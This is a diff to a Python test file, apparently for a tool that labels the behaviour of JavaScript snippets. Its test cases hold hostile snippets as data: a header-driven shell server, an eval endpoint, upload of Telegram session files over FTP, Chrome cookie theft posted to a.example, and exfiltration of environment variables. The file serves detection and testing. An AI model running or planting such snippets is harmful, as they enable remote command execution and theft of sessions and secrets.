@@ -90,6 +90,8 @@ def test_a_snippet_means(source: str, expected: list[str]) -> None:
         ("f(String.fromCharCode(8232))", "decode."),
         ("f(['a', 'b', 'c'].join(''))", "decode."),
         ("document.createElement('img').src = path", "net."),
+        ("const p = Object.getPrototypeOf(x); f(({}).hasOwnProperty.toString.call(p.constructor))", "code."),
+        ("function p(o) { let c = Object.getPrototypeOf(o).constructor; return s.call(c) } p(() => 1); p(x)", "code."),
         ("f(document.getElementById('main').value)", "input."),
     ],
 )  # fmt: skip
@@ -155,6 +157,23 @@ FETCHES = (
             "const fs = require('fs'); fs.copyFileSync(d + '/Google/Chrome/User Data/Default/Cookies', "
             "'/tmp/jar-x'); require('axios').post('https://a.example', fs.readFileSync('/tmp/jar-x'))",
             "file.write /tmp/jar-x -> file.read /tmp/jar-x",
+        ),
+        (
+            "require('http').createServer((q, s) => require('child_process').exec(q.headers.cmd, f)).listen(8080)",
+            "net.listen -> proc.shell",
+        ),
+        (
+            "const app = require('express')(); app.get('/x', (req, res) => res.send(eval(req.query.c)))",
+            "net.listen /x -> code.eval",
+        ),
+        (
+            "const F = require('basic-ftp'); new F.Client().uploadFrom(d + '/Telegram Desktop/tdata', 'x')",
+            "messenger.read /Telegram Desktop/tdata -> net.send {d}/Telegram Desktop/tdata",
+        ),
+        (
+            "const log = Buffer.alloc(65535); module.exports = (at, v) => { v = Buffer.from(v, 'hex'); "
+            "for (let i = 0; i < v.length; i++) log[at + i] = v[i]; require('vm').runInThisContext(log.toString()) }",
+            "decode.text -> code.eval",
         ),
         (
             "const f = new (require('form-data'))(); f.append('e', JSON.stringify(process.env)); "
